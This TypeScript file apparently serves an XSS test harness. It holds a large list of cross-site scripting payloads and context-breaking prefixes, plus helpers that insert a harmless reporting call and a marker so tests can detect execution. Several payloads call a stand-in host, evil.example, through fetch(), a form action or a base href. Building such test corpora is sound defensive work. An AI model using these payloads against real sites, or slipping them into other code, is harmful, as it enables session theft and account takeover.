// in a payload, MM is its marker and XX the call by which it reports that it ran

const bySelf = [
  '<svg/onload=XX>',
  '<b id=MM>',
  '<script>XX</script>',
  '<img src=x onerror=XX data-xss=MM>',
  '"><img src=x onerror=XX data-xss=MM>',
  "'><svg onload=XX data-xss=MM>",
  '" autofocus onfocus="XX" data-xss="MM',
  "' onmouseover='XX' data-xss='MM",
  '</script><script>XX</script>',
  '<!--<script>MM</script><img src=x onerror=XX>-->',
  '--><img src=x onerror=XX data-xss=MM>',
  '</title><img src=x onerror=XX data-xss=MM>',
  '</textarea><img src=x onerror=XX data-xss=MM>',
  '</style><script src=/xss-beacon?MM></script>',
  '<iframe srcdoc="&lt;script&gt;parent.XX&lt;/script&gt;" data-xss=MM></iframe>',
  '<iframe src="javascript:parent.XX" data-xss=MM>',
  'javascript:XX',
  'JaVaScRiPt:XX//MM',
  'java\tscript:XX',
  'data:text/html,<script>opener.XX</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MM',
  'vbscript:MM',
  '[MM](javascript:XX)',
  '![MM](/xss-beacon?MM"onerror="XX)',
  '{{constructor.constructor("XX")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's is the attack
  '${XX}#{XX}<%=XX%>{%MM%}',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=XX&gt;" data-xss=MM>',
  '<svg><style><a id="</style><img src=1 onerror=XX data-xss=MM>">',
  '<noscript><p title="</noscript><img src=x onerror=XX data-xss=MM>">',
  '＜script＞XX＜/script＞',
  '\u202e>tpircs/<XX>tpircs<\u202c MM',
  '\u2028XX\u2029</script\u00a0><svg onload=XX data-xss=MM>',
  '"}];XX;[{"MM":"',
  "';XX;//MM",
  '\\u003cscript\\u003eXX\\u003c/script\\u003e',
  '&lt;img src=x onerror=XX&gt;MM',
  '<style data-xss=MM>body{background:url(/xss-beacon?MM)}</style>',
  'red;background:url(/xss-beacon?MM);x:expression(XX)',
  '<meta http-equiv=refresh content="0;url=/xss-beacon?MM" data-xss=MM>',
  '<base href=//evil.example/MM/ data-xss=MM>',
  '<form action=//evil.example/MM data-xss=MM><button>MM</button></form>',
  '<script type=importmap data-xss=MM>{"imports":{"react":"/xss-beacon?MM"}}</script>',
  '<a id=MM name=MM data-xss=MM href=/xss-beacon?MM>MM</a>',
  '<form name=body id=MM data-xss=MM><input name=attributes><input name=cookie></form>',
  '{"__proto__":{"polluted":"MM"},"constructor":{"prototype":{"polluted":"MM"}}}',
  '__proto__[polluted]=MM',
  '<link rel=stylesheet href=//evil.example/MM.css data-xss=MM>',
  '<object data="javascript:XX" data-xss=MM></object>',
  '<embed src=/xss-beacon?MM data-xss=MM>',
  '<template shadowrootmode=open><img src=x onerror=XX></template>MM',
  '<details open ontoggle=XX data-xss=MM>MM</details>',
  '<video><source onerror=XX data-xss=MM></video>',
  '<audio src onerror=XX data-xss=MM>',
  '<body onload=XX data-xss=MM>',
  '<marquee onstart=XX data-xss=MM>MM</marquee>',
  '<input autofocus onfocus=XX data-xss=MM>',
  '<select autofocus onfocus=XX data-xss=MM>',
  '<button popovertarget=MM onclick=XX data-xss=MM>MM</button><div popover id=MM onbeforetoggle=XX>',
  '<svg><animate onbegin=XX attributeName=x dur=1s data-xss=MM>',
  '<svg><a xlink:href="javascript:XX" data-xss=MM><text y=20>MM</text></a></svg>',
  '<svg><script href="data:,XX" data-xss=MM /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=MM xmlns=http://www.w3.org/2000/svg><script>XX</script></svg>#MM" data-xss=MM>',
  '<math><a xlink:href="javascript:XX" data-xss=MM>MM',
  '<math href="javascript:XX" data-xss=MM>MM</math>',
  '<script src=data:,XX data-xss=MM></script>',
  '<script>document.title="MM"</script>',
  '<img src=x onerror="document.title=\'MM\'" data-xss=MM>',
  '<img src=/xss-beacon?MM data-xss=MM>',
  '<img srcset="/xss-beacon?MM 1x" data-xss=MM>',
  '<img src="//evil.example/MM.png" data-xss=MM>',
  '<input type=image src=/xss-beacon?MM data-xss=MM>',
  '<table background=/xss-beacon?MM data-xss=MM>',
  '<div style="background:url(/xss-beacon?MM)" data-xss=MM>MM</div>',
  '<link rel=prefetch href=/xss-beacon?MM data-xss=MM>',
  '<link rel=modulepreload href=/xss-beacon?MM data-xss=MM>',
  '<a ping=/xss-beacon?MM href="#MM" data-xss=MM>MM</a>',
  '<scr<script>ipt>XX</scr</script>ipt>MM',
  '<SCRIPT/XSS SRC="/xss-beacon?MM"></SCRIPT>',
  '<<script>XX//<</script>',
  '<img """><script>XX</script>">',
  '<img src=`x` onerror=`XX` data-xss=MM>',
  '<script\n>XX</script\n>',
  '<img/src/onerror=XX/data-xss=MM>',
  '%3Cscript%3EXX%3C/script%3E',
  '&#60;script&#62;XX&#60;/script&#62;',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;XX',
  '+ADw-script+AD4-XX+ADw-/script+AD4-',
  'ſcript <ſcript>XX</ſcript>',
  '<\u200bscript>XX</script>',
  '\ufeff<script>XX</script>',
  '‹img src=x onerror=XX›MM',
  ']]><script>XX</script>',
  '<![CDATA[<img src=x onerror=XX data-xss=MM>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">XX</script>',
  '<?php echo "MM"; ?><script>XX</script>',
  'MM\r\nContent-Type: text/html\r\n\r\n<script>XX</script>',
  'BEGIN:VEVENT\nURL:javascript:XX\nEND:VEVENT MM',
  '<https://evil.example/MM> <javascript:XX>',
  '[MM]: javascript:XX "MM"\n[MM][MM]',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"XX"}}} MM',
  '["$","script",null,{"src":"/xss-beacon?MM"}]',
  '@import url(/xss-beacon?MM);',
  "<img src='x' onerror='fetch(\"//evil.example/MM\")' data-xss=MM>",
  '<xss-element onpointerrawupdate=XX data-xss=MM>MM</xss-element>',
  '<p is=xss-element id=__reactContainer name=MM data-xss=MM>',
  '<a href="&#1;javascript:XX" data-xss=MM>MM</a>',
  '<a href=" javascript:XX" target=_self data-xss=MM>MM</a>',
  '<isindex type=image src=1 onerror=XX data-xss=MM>',
  '<frameset onload=XX data-xss=MM>',
  '<dialog open onclose=XX data-xss=MM><form method=dialog><button>MM</button></form></dialog>',
  '<slot name=MM onslotchange=XX data-xss=MM>MM</slot>',
]

// ends of a surrounding context, each followed by an attack that runs by itself
const ends = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '--!>',
  '</script>',
  '</noscript>',
  '</iframe>',
  '</option></select>',
  '\\"',
  '*/',
]
const comes = [
  ' onfocus=XX autofocus tabindex=1 data-xss=MM ',
  '<svg onload=XX data-xss=MM>',
  '<img src=x onerror=XX data-xss=MM>',
  '<script>XX</script><!--',
  '<iframe onload=XX data-xss=MM></iframe>',
  ';XX;//',
  '<style onload=XX data-xss=MM></style>',
  '<details/open/ontoggle=XX data-xss=MM>',
  '<meta http-equiv=refresh content=0;url=/xss-beacon?MM data-xss=MM>',
]
const combined = ends.flatMap((end) => comes.map((then) => `${end}${then}`))

/**
 * Returns that many distinct payloads, the first ones covering every kind of attack. Throws when
 * there are fewer.
 */
export function payloads(count: number): string[] {
  const all = [...new Set([...bySelf, ...combined])].map((one) =>
    one.includes('MM') || one.includes('XX') ? one : `${one} MM`,
  )
  if (count > all.length) throw new Error(`There are ${all.length} payloads`)
  return all.slice(0, count)
}

/** Inserts the marker into a payload. */
export function withMarker(payload: string, marker: string): string {
  return payload.replaceAll('XX', `__xss('${marker}')`).replaceAll('MM', marker)
}

/** Matches the markers, which no other text contains. */
export const markers = /zq[0-9a-z]{4}/g

/** Returns the marker with that number. */
export const markerOf = (number: number) => `zq${number.toString(36).padStart(4, '0')}`
